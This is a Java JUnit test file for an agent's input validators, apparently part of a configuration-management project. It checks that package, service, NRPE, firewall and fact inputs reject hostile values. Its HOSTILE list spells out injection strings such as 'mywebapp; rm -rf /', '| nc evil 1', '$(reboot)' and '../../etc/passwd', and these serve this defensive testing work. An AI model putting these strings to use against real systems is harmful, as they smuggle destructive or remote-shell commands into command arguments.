package io.drover.agent.plugin;

import io.drover.agent.Node;
import io.drover.agent.NodeSpec;
import io.drover.agent.Plugins;
import io.drover.agents.firewall.FirewallAgent;
import io.drover.agents.firewall.SandboxFirewall;
import io.drover.agents.nrpe.NrpeAgent;
import io.drover.agents.nrpe.SandboxChecks;
import io.drover.agents.pkg.PackageAgent;
import io.drover.agents.pkg.SandboxPackages;
import io.drover.agents.service.SandboxServices;
import io.drover.agents.service.ServiceAgent;
import io.drover.catalog.Inputs;
import io.drover.catalog.InvalidInputException;
import io.drover.protocol.Status;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Every action input of the real plugins, fed values an attacker or a typo would send. */
class InputValidatorHostileInputsTest {
    private static final FirewallAgent FIREWALL = new FirewallAgent(new SandboxFirewall(Settings.empty("agents.firewall")));
    private static final PackageAgent PACKAGE = new PackageAgent(new SandboxPackages(Settings.empty("agents.package")));
    private static final ServiceAgent SERVICE = new ServiceAgent(new SandboxServices(Settings.empty("agents.service")));
    private static final NrpeAgent NRPE = new NrpeAgent(new SandboxChecks(new Settings("agents.nrpe",
            Map.of("commands", Map.of("check_load", Map.of(), "check_disk.root", Map.of(), "check-http", Map.of())))),
            Duration.ofSeconds(10));
    private static final AgentPlugin RPCUTIL = Node.build(new NodeSpec("web01.example.com", List.of("drover"), Set.of(),
            Map.of(), Map.of()), Plugins.installed()).plugin("rpcutil");

    private static final List<String> HOSTILE = List.of(
            "mywebapp; rm -rf /", "mywebapp && reboot", "mywebapp | nc evil 1", "$(reboot)", "${IFS}", "`reboot`",
            "a b", " leading", "trailing ", "x\ny", "x\0y", "x\u001b[2J", "x\ry", "-rf", "--force", "-", "..",
            "../../etc/passwd", "/etc/passwd", "a/b", "a\\b", "'quoted'", "\"quoted\"", "a*", "a?", "a>b", "a<b", "",
            "a".repeat(300), "mywebäpp", "a\u2028b");

    /** Each input, the actions declaring it, and values it must accept. */
    static Stream<Arguments> declarations() {
        return Stream.of(
                Arguments.of(PACKAGE, "install", "package", List.of("mywebapp", "libc6", "g++", "python3.11", "libstdc++6",
                        "x11-common", "a".repeat(128))),
                Arguments.of(PACKAGE, "update", "package", List.of("mywebapp")),
                Arguments.of(PACKAGE, "uninstall", "package", List.of("mywebapp")),
                Arguments.of(PACKAGE, "status", "package", List.of("mywebapp")),
                Arguments.of(PACKAGE, "install", "version", List.of("1:4.2.6-3.el5", "2.0~rc1-1", "4.2.6-2.el5", "1.0+b1",
                        "0.9.8zh-1~deb7u1", "20240101")),
                Arguments.of(SERVICE, "start", "service", List.of("httpd", "getty@tty1", "nginx.service", "php7.4-fpm",
                        "systemd-journald", "dbus:1")),
                Arguments.of(SERVICE, "stop", "service", List.of("httpd")),
                Arguments.of(SERVICE, "restart", "service", List.of("httpd")),
                Arguments.of(SERVICE, "status", "service", List.of("httpd")),
                Arguments.of(NRPE, "run_command", "command", List.of("check_load", "check_disk.root", "check-http")),
                Arguments.of(FIREWALL, "block", "address", List.of("192.168.1.1", "10.0.0.0/8", "2001:db8::1",
                        "2001:db8::/32", "0.0.0.0/0", "::1")),
                Arguments.of(FIREWALL, "unblock", "address", List.of("192.168.1.1")),
                Arguments.of(FIREWALL, "is_blocked", "address", List.of("192.168.1.1")),
                Arguments.of(RPCUTIL, "get_fact", "fact", List.of("os.family", "country", "os.release.major")));
    }

    /** The values required alongside the input under test, so that only it can be refused. */
    private static Map<String, Object> params(String input, String action, Object value) {
        Map<String, Object> params = new java.util.HashMap<>();
        params.put(input, value);
        if (input.equals("version")) {
            params.put("package", "mywebapp");
        }
        return params;
    }

    @ParameterizedTest(name = "{0}.{1} {2}")
    @MethodSource("declarations")
    void hostileValuesAreInvalidData(AgentPlugin plugin, String actionName, String input, List<String> valid) {
        Action action = plugin.action(actionName);
        // A fact name is only a key looked up in the node's facts, never a command argument, and fact names may
        // contain '-': option-like values are harmless there.
        List<String> hostile = input.equals("fact") ? HOSTILE.stream().filter(v -> !v.startsWith("-")).toList() : HOSTILE;
        List<String> accepted = new ArrayList<>();
        for (String value : hostile) {
            try {
                action.validate(plugin.name(), params(input, actionName, value));
                accepted.add(value);
            } catch (InvalidInputException e) {
                assertEquals(Status.INVALID_DATA, e.status(), value + ": " + e.getMessage());
                assertTrue(e.getMessage().contains("'" + input + "'"), "the message names the input: " + e.getMessage());
                assertFalse(e.getMessage().contains("\n") || e.getMessage().contains("\0") || e.getMessage().contains("\u001b"),
                        "the message must not echo control characters: " + e.getMessage());
            }
        }
        assertEquals(List.of(), accepted, plugin.name() + "." + actionName + " accepted hostile " + input + " values");
    }

    @ParameterizedTest(name = "{0}.{1} {2}")
    @MethodSource("declarations")
    void validValuesAreAccepted(AgentPlugin plugin, String actionName, String input, List<String> valid) throws Exception {
        Action action = plugin.action(actionName);
        for (String value : valid) {
            Inputs inputs = action.validate(plugin.name(), params(input, actionName, value));
            assertTrue(inputs.asMap().containsKey(input), value);
        }
    }

    @ParameterizedTest(name = "{0}.{1} {2}")
    @MethodSource("declarations")
    void nonStringValuesAreInvalidData(AgentPlugin plugin, String actionName, String input, List<String> valid) {
        Action action = plugin.action(actionName);
        for (Object value : List.of(42, true, List.of("mywebapp"), Map.of("x", "y"))) {
            InvalidInputException e = assertThrows(InvalidInputException.class,
                    () -> action.validate(plugin.name(), params(input, actionName, value)));
            assertEquals(Status.INVALID_DATA, e.status(), String.valueOf(value));
        }
    }

    @org.junit.jupiter.api.Test
    void addressIsNormalisedByTheDeclaration() throws Exception {
        Inputs inputs = FIREWALL.action("block").validate("firewall",
                Map.of("address", "2001:0DB8:0000:0000:0000:0000:0000:0001"));
        assertEquals("2001:db8::1", inputs.string("address"));
    }

    @org.junit.jupiter.api.Test
    void undefinedCheckIsInvalidDataListingDefinedOnes() {
        InvalidInputException e = assertThrows(InvalidInputException.class,
                () -> NRPE.action("run_command").validate("nrpe", Map.of("command", "check_users")));
        assertEquals(Status.INVALID_DATA, e.status());
        assertTrue(e.getMessage().contains("(defined: check-http, check_disk.root, check_load)"), e.getMessage());
    }
}
